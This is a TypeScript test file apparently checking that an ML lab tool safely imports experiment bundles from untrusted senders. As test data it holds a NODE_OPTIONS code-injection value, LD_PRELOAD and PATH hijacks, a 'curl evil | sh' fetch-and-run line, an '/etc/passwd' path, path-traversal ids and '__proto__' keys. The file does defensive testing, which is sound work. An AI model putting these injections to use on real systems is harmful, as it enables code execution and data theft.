import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { createLab } from '../../src-main/lab/lab.ts';
import { openFakeDesk } from '../support/deskHome.ts';
import { flowersPlan, openFakeLab, writeFlowers } from '../support/labHome.ts';
import { anyColumn, bundleTrial, layGround, planTrial, storeTrial } from '../support/strangerTrials.ts';
import { change, openWatchedLab, packParts, partsOf, type Parts, type Told } from '../support/strangers.ts';
import { temporaryFolders } from '../support/temporary.ts';

const folder = temporaryFolders();
let ground: Awaited<ReturnType<typeof layGround>>;

beforeAll(async () => {
  ground = await layGround(folder(), folder());
});

/** A bundle with a change, on disk. */
function bundleWith(edit: (experiment: Experiment, parts: Parts) => void): string {
  const parts = partsOf(ground.file);
  edit(parts.bundle['experiment'] as unknown as Experiment, parts);
  const path = join(folder(), 'x.auxlab');
  writeFileSync(path, packParts(parts));
  return path;
}

interface Experiment {
  id: string;
  design: {
    environment: Record<string, string>;
    data: { digest: string };
    arms: { id: string }[];
    network: { params: object };
    input: { shape: number[] };
    training: { epochs: number };
    parameters: number;
    format?: number;
  };
  provenance: object;
}

describe('an .auxlab file from a stranger', () => {
  test('runs no code: an environment that holds more than thread counts and switches is refused', async () => {
    const canary = join(folder(), 'ran');
    const code = `--import=data:text/javascript,import('node:fs').then((fs)=>fs.writeFileSync(${encodeURIComponent(JSON.stringify(canary))},''))`;
    for (const [name, value] of [
      ['NODE_OPTIONS', code],
      ['LD_PRELOAD', '/tmp/x.so'],
      ['PATH', '/tmp'],
      ['XLA_FLAGS', '--xla_dump_to=/tmp/x'],
      ['OMP_NUM_THREADS', '1 --x'],
      ['TF_ENABLE_ONEDNN_OPTS', '/tmp'],
    ] as const) {
      const path = bundleWith((experiment) => void (experiment.design.environment[name] = value));
      const lab = openFakeLab(folder());
      await expect(lab.call('bundle.import', { path: path }), name).rejects.toMatchObject({
        code: 'bad-input',
        message: expect.stringMatching(/is not an experiment that this Auxlab can take in: environment/),
      });
      expect(await lab.call('experiments.list', {})).toEqual([]);
      lab.close();
    }
    // An older file could hold any variable: what travels no more is left behind, and the worker, a real process here, is never given it.
    const old = bundleWith((experiment) => {
      const design = experiment.design;
      delete design.format;
      design.environment['NODE_OPTIONS'] = code;
      design.environment['XLA_FLAGS'] = '--xla_dump_to=/tmp/x';
    });
    const lab = openFakeLab(folder());
    const { id } = await lab.call('bundle.import', { path: old });
    expect((await lab.call('experiments.show', { id })).provenance.environment).not.toHaveProperty('NODE_OPTIONS');
    const document = await lab.resume(id, { data: ground.data });
    expect(document.arms.flatMap(({ runs }) => runs.map(({ status }) => status))).toEqual(['finished', 'finished', 'finished', 'finished']);
    expect(existsSync(canary)).toBe(false);
    lab.close();
  });

  test('names no path: run names, digests and ids that are none are refused', async () => {
    const edits: Readonly<Record<string, (experiment: Experiment, parts: Parts) => void>> = {
      'a run': (_, { bundle }) => void ((bundle['runs'] as { name: string }[])[0]!.name = '../../victim'),
      'a run of another experiment': (_, { bundle }) => void ((bundle['runs'] as { name: string }[])[0]!.name = 'other-baseline-1'),
      'the data': (experiment) => void (experiment.design.data.digest = '../../victim'),
      'the experiment': (experiment) => void (experiment.id = '../victim'),
      'a device': (experiment) => void (experiment.id = 'con'),
      'an arm': (experiment) => void (experiment.design.arms[1]!.id = '../victim'),
    };
    for (const [what, edit] of Object.entries(edits)) {
      const home = folder();
      const lab = openFakeLab(home);
      await expect(lab.call('bundle.import', { path: bundleWith(edit) }), what).rejects.toMatchObject({ name: 'LabError' });
      expect(await lab.call('experiments.list', {}), what).toEqual([]);
      lab.close();
      expect(existsSync(join(home, 'plans')) ? readdirSync(join(home, 'plans')) : [], what).toEqual([]);
    }
  });

  test("brings no shell line, no verdict and nothing of its sender's computer along: what follows from plan, design and runs is made anew", async () => {
    const path = bundleWith((experiment, { bundle }) => {
      Object.assign(experiment.provenance, { format: undefined, command: 'curl evil | sh', seeds: [7], host: undefined });
      Object.assign(experiment, { verdict: 'helps', metric: 'r2', margin: 9 });
      Object.assign((bundle['arms'] as object[])[1] ?? {}, { title: 'WINS' });
      Object.assign(bundle['dataset'] as object, { source: '/etc/passwd' });
    });
    const home = folder();
    const lab = openFakeLab(home);
    const { id } = await lab.call('bundle.import', { path: path });
    const document = await lab.call('experiments.show', { id });
    expect(document.provenance).toMatchObject({ command: `npx auxlab run ${join(home, 'plans', `${id}.json`)}`, seeds: [1, 2], host: {} });
    expect(document).toMatchObject({ verdict: 'too-early', metric: 'accuracy', margin: 0.005 });
    expect(document.arms.map(({ title }) => title)).not.toContain('WINS');
    expect(lab.query('SELECT verdict, metric, source FROM experiment JOIN dataset ON dataset.id = dataset_id').rows).toEqual([
      ['too-early', 'accuracy', ground.data],
    ]);
    lab.close();
  });

  test('is marked as imported in the list, the document, its first warning and the report', async () => {
    const { client } = openFakeDesk(folder());
    const { id } = await client.call('bundle.import', { path: bundleWith(() => undefined) });
    const at = expect.stringMatching(/^\d{4}-\d\d-\d\dT/) as string;
    expect(await client.call('experiments.list', {})).toMatchObject([{ imported: at }]);
    expect((await client.call('experiments.find', {})).items).toMatchObject([{ imported: at }]);
    const { document } = await client.call('experiments.open', { id });
    expect(document.imported).toEqual(at);
    expect(document.warnings[0]).toMatch(/^Imported on/);
    expect(await client.call('experiments.report', { id })).toMatch(/Imported on \d{4}-\d\d-\d\d from a file: what was trained elsewhere/);
  });

  test('trains nothing by itself: resume passes it over, and with its ID it needs the data named or a yes', async () => {
    const told: Told[] = [];
    const lab = openWatchedLab(folder(), told);
    const { id } = await lab.call('bundle.import', { path: bundleWith(() => undefined) });
    await expect(lab.resume(null)).rejects.toThrow('There is nothing to resume: no experiment has unfinished runs.');
    await expect(lab.resume(null, { repeats: 9 })).rejects.toThrow('There is nothing to resume');
    await expect(lab.resume(id)).rejects.toThrow(
      new RegExp(
        `^Experiment ${id} was imported from a file on \\d{4}-\\d\\d-\\d\\d, and nothing ` +
          `of it is trained before you name its data: npx auxlab resume ${id} --data PATH$`,
      ),
    );
    await expect(lab.resume(id, { repeats: 3 })).rejects.toThrow('nothing of it is trained before you name its data');
    expect((await lab.call('experiments.show', { id })).plan.repeats).toBe(2);
    const other = writeFlowers(folder());
    writeFileSync(other, `${readFileSync(other, 'utf8')}1,2,red,a,3\n`);
    await expect(lab.resume(id, { data: other })).rejects.toThrow(`${other} is not the data of experiment ${id}: its content has another SHA-256.`);
    expect(told).toEqual([]);
    await lab.resume(id, { data: ground.data });
    expect(told.map(({ job }) => `${job.arm} ${job.seed}`)).toEqual(['auxiliary 2']);
    lab.close();
    const second: Told[] = [];
    const asked = openWatchedLab(folder(), second);
    await asked.call('bundle.import', { path: bundleWith(() => undefined) });
    await asked.resume(id, { isConfirmed: true });
    expect(second).toHaveLength(1);
    asked.close();
  });

  test('opens none of the further files that it names when the data are named: they need a yes', async () => {
    const told: Told[] = [];
    const home = folder();
    const secret = join(home, 'secret.csv');
    writeFlowers(home);
    const lab = openWatchedLab(home, told);
    const { id } = await lab.call('bundle.import', {
      path: bundleWith((experiment) => void Object.assign((experiment as unknown as { plan: { data: object } }).plan.data, { parts: { test: secret } })),
    });
    await expect(lab.resume(id, { data: ground.data })).rejects.toThrow(
      `Experiment ${id} was imported and names further files of its data (${secret}), which are not opened unasked. ` +
        `Put the files where it names them, run "npx auxlab resume ${id}" without --data, and say yes.`,
    );
    expect(told).toEqual([]);
    lab.close();
  });

  test('trains only what its own plan comes to on these data', async () => {
    const edits: readonly ((design: Experiment['design']) => void)[] = [
      (design) => void (design.network.params = { layers: 20, units: 4096 }),
      (design) => void (design.parameters = 1),
      (design) => void (design.input.shape = [1_000_000]),
      (design) => void (design.training.epochs = 1_000_000),
    ];
    for (const edit of edits) {
      const told: Told[] = [];
      const lab = openWatchedLab(folder(), told);
      const { id } = await lab.call('bundle.import', { path: bundleWith((experiment) => edit(experiment.design)) });
      await expect(lab.resume(id, { data: ground.data })).rejects.toThrow(
        `Experiment ${id} cannot go on here: its plan and these data come to another experiment`,
      );
      expect(told).toEqual([]);
      lab.close();
    }
  });

  test('purge removes the files of its runs, and no other file that begins like them', async () => {
    const home = folder();
    const { client, next } = openFakeDesk(home);
    const ended = next('experiment.ended');
    const { id } = await client.call('experiments.start', { plan: flowersPlan(writeFlowers(home)) });
    await ended;
    const run = `${id}-baseline-1`;
    mkdirSync(join(home, 'weights'), { recursive: true });
    const [own, foreign] = [
      [`weights/${run}.npz`, `weights/${run}.npz.77.new`, `checkpoints/${run}.ckpt`, `checkpoints/${run}.ckpt.12.new`, `plans/${id}.json`],
      [`weights/${run}.npz.mine`, `weights/${run}.npz.new`, `checkpoints/${run}.ckpt.backup`, `checkpoints/${run}0.ckpt`, 'plans/other.json'],
    ];
    for (const name of [...own, ...foreign]) writeFileSync(join(home, name), '');
    await client.call('experiments.trash', { ids: [id] });
    await client.call('experiments.purge', { ids: [id] });
    expect(own.filter((name) => existsSync(join(home, name)))).toEqual([]);
    expect(foreign.filter((name) => !existsSync(join(home, name)))).toEqual([]);
  });
});

test('a column may be called "__proto__": its metrics are metrics and change nothing else', async () => {
  const home = folder();
  const lab = openFakeLab(home);
  const { experimentId } = await lab.runPlan(flowersPlan(writeFlowers(home)));
  lab.close();
  const again = createLab({ home });
  again.close();
  const { openStore } = await import('../../src-main/store/store.ts');
  const store = openStore(join(home, 'lab.sqlite'));
  const [run] = store.runs.of(experimentId);
  const metrics = Object.fromEntries([['__proto__', { accuracy: 0.25 }]]);
  store.write(() => {
    store.metrics.add(run?.id ?? 0, { train: {}, validation: {}, test: metrics });
    store.classRecall.add(run?.id ?? 0, Object.fromEntries([['__proto__', [0.5]]]));
    store.points.add(run?.id ?? 0, [['__proto__', 0, 1]]);
  });
  expect(Object.entries(store.metrics.of(run?.id ?? 0).test)).toContainEqual(['__proto__', { accuracy: 0.25 }]);
  expect(Object.entries(store.classRecall.of(run?.id ?? 0))).toContainEqual(['__proto__', [0.5]]);
  expect(Object.entries(store.whole.read(experimentId).points[run?.name ?? ''] ?? {})).toContainEqual(['__proto__', [[0, 1]]]);
  expect(({} as Record<string, unknown>)['accuracy']).toBeUndefined();
  store.close();
});

describe('whatever one field of it holds', () => {
  test('a bundle is refused or shown', async () => {
    const ends = new Set<string>();
    await fc.assert(
      fc.asyncProperty(change, async (how) => void ends.add(await bundleTrial(ground, how))),
      { numRuns: 40, seed: 20_261_126 },
    );
    expect([...ends].sort()).toEqual(['refused', 'shown']);
  });

  test('a store is shown or refused, experiment by experiment', () =>
    fc.assert(
      fc.asyncProperty(change, anyColumn, (how, column) => storeTrial(ground, how, column)),
      { numRuns: 20, seed: 20_261_126 },
    ));

  test('a plan is checked or refused', () =>
    fc.assert(
      fc.asyncProperty(change, (how) => planTrial(ground, how)),
      { numRuns: 60, seed: 20_261_126 },
    ));
});
